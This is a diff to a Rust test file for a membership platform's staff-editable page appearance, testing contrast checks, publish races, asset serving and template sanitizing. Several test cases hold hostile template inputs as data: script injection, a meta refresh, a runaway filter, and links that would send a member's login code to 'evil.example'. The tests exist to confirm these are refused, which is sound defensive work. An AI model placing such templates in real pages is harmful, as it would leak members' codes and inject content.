@@ -1,9 +1,13 @@
 //! How members' pages look and sound, as staff set it: tried in a preview, published for members, and never able to take
 //! a page down.
 
+use lojal_server::platform::appearance::{Appearance, appearance_draft_set, appearance_publish};
 use lojal_server::platform::application::NewMember;
+use lojal_server::platform::http::HttpOptions;
 use lojal_server::platform::identity::Identity;
 use lojal_server::platform::keys::{KeyVisibility, Scope, key_create};
+use lojal_server::platform::pages::Pages;
+use lojal_server::{Front, serve};
 
 use crate::pages::{Browser, House, Page};
 use crate::pages_portal::{secret, signed_in};
@@ -116,6 +120,11 @@ async fn what_cannot_be_read_is_refused_with_something_better() {
     let refused = owner.post(HERE, &look(&[("light_accent", "#ff9900"), ("name_pl", "Herbaciarnia")])).await;
     assert!(refused.status == 200 && refused.text.contains("Not enough contrast for everybody"), "{}", refused.text);
     assert!(refused.text.contains("value=\"#ff9900\"") && refused.text.contains("value=\"Herbaciarnia\""), "kept");
+    let form = refused.text.split("<form class=\"form\"").nth(1).unwrap();
+    let first = form.split("<button").nth(1).unwrap().split('>').next().unwrap();
+    assert!(!first.contains("name="), "Enter keeps what was typed: {first}");
+    let described = "aria-describedby=\"light_accent-said light_accent-fault\"";
+    assert!(form.contains(described) && form.contains("id=\"light_accent-fault\""), "{form}");
     let better = refused.between("name=\"take\" value=\"light_accent:", "\"").to_owned();
     let fields = look(&[("light_accent", "#ff9900")]);
     let take = format!("light_accent:{better}");
@@ -204,6 +213,9 @@ async fn a_template_that_breaks_never_takes_a_page_down() {
         ("{{ nothing.at.all }}", "undefined value"),
         ("{{ x|nothing_of_the_kind }}", "unknown filter"),
         ("a\n{% for a in range(9999) %}{% for b in range(9999) %}{% endfor %}{% endfor %}", "engine ran out of fuel"),
+        ("{{ 'x'|indent(1000000000000, true) }}", "invalid operation"),
+        ("<meta {{ 'http-equiv=refresh' }}>", "This tag is not allowed"),
+        ("<a href=\"{{ 'https://evil.example/?' ~ name }}\">x</a>", "This address leads elsewhere"),
         ("<script>alert(1)</script>", "Scripts and event handlers are not allowed"),
         ("<p style=\"color:red\">", "because of the CSP"),
         ("<img src=\"https://evil.example/x\">", "This address leads elsewhere"),
@@ -212,8 +224,6 @@ async fn a_template_that_breaks_never_takes_a_page_down() {
         let refused = keep_template(&owner, "portal-home.html", template).await;
         assert!(refused.status == 200 && refused.text.contains(said), "{template}: {}", refused.text);
     }
-    let letter = keep_template(&owner, "portal-mail.html", "<a href=\"https://x.example/{{ code }}\">").await;
-    assert!(letter.text.contains("the code could reach others"), "{}", letter.text);
     let large = format!("{{# {} #}}", "x".repeat(70_000));
     assert!(keep_template(&owner, "portal-home.html", &large).await.text.contains("too long"));
     let stale = [("base", "0000000000000000"), ("template", "x")];
@@ -246,6 +256,67 @@ async fn a_template_that_breaks_never_takes_a_page_down() {
     publish(&owner).await;
     assert!(!owner.get(HERE).await.text.contains("so members see the built-in one"));
     assert_eq!(house.shop.count("appearance_fault").await, 0);
+}
+
+#[tokio::test]
+async fn letters_are_made_from_what_the_operator_has_and_from_nothing_else() {
+    let (house, owner, _) = furnished().await;
+    let list = owner.get(&format!("{HERE}/templates")).await.text;
+    assert!(list.contains("portal-home.html") && !list.contains("portal-mail.html"), "{list}");
+    let address = format!("{HERE}/templates/portal-mail.html");
+    assert_eq!(owner.get(&address).await.status, 404);
+    for path in ["", "/reset"] {
+        let fields = [("base", ""), ("template", "{{ code }}")];
+        assert_eq!(owner.post(&format!("{address}{path}"), &fields).await.status, 404, "{path}");
+    }
+    // As one that was kept when it still could be.
+    let leak = "<a href=\"https://evil.example/?{{ code }}\">Mine</a>".to_owned();
+    let kept = Appearance { templates: [("portal/mail.html".to_owned(), leak)].into(), ..Appearance::default() };
+    let mut transaction = house.shop.application.database.write().await.unwrap();
+    let now = house.shop.clock.now();
+    appearance_publish(&mut transaction, &kept, 1, now).await.unwrap();
+    appearance_draft_set(&mut transaction, &kept, 1, now).await.unwrap();
+    transaction.commit().await.unwrap();
+    let letter = owner.get(&format!("{FRAME}mail")).await.text;
+    assert!(letter.contains("123456") && !letter.contains("evil.example"), "{letter}");
+    assert_eq!(publish(&owner).await.status, 303, "and the rest of it is as good as it was");
+    let text = format!("{HERE}/texts/en/portal-mail-kept");
+    assert_eq!(owner.post(&text, &[("text", "Soon over.")]).await.status, 200, "the number is missing");
+    let text = format!("{HERE}/texts/en/portal-mail-not-you");
+    assert_eq!(owner.post(&text, &[("text", "Not you? Never mind.")]).await.status, 303);
+    assert!(owner.get(&format!("{FRAME}mail")).await.text.contains("Never mind."), "texts are the shop's");
+}
+
+#[tokio::test]
+async fn what_somebody_changes_while_another_publishes_is_not_lost() {
+    let (_house, owner, _) = furnished().await;
+    for name in ["One", "Two", "Three", "Four", "Five", "Six"] {
+        assert_eq!(owner.post(HERE, &look(&[("name_en", "Before")])).await.status, 303);
+        let fields = look(&[("name_en", name)]);
+        let (kept, published) = tokio::join!(owner.post(HERE, &fields), publish(&owner));
+        assert_eq!(kept.status, 303, "{}", kept.text);
+        let is_refused = published.text.contains("somebody has changed the draft meanwhile");
+        assert!(published.status == 303 || is_refused, "{}", published.text);
+        assert!(owner.get(HERE).await.text.contains(&format!("value=\"{name}\"")), "{name}");
+    }
+}
+
+#[tokio::test]
+async fn a_logo_in_the_operators_folder_is_served_as_well() {
+    let shop = Shop::open().await;
+    let folder = tempfile::tempdir().unwrap();
+    let assets = folder.path().join("assets");
+    std::fs::create_dir(&assets).unwrap();
+    std::fs::write(assets.join("logo.png"), png(9, 9)).unwrap();
+    let own = Pages::open(Some(folder.path())).unwrap().asset("logo.png").unwrap();
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let address = format!("http://{}", listener.local_addr().unwrap());
+    let front = Front::open(Some(folder.path()), &address).unwrap();
+    tokio::spawn(serve(shop.application.clone(), front, HttpOptions::default(), listener, std::future::pending()));
+    let served = reqwest::get(format!("{address}{own}")).await.unwrap();
+    assert_eq!((served.status().as_u16(), served.bytes().await.unwrap().to_vec()), (200, png(9, 9)));
+    let unknown = reqwest::get(format!("{address}/assets/000000000000/logo.png")).await.unwrap();
+    assert_eq!(unknown.status(), 404);
 }
 
 #[tokio::test]
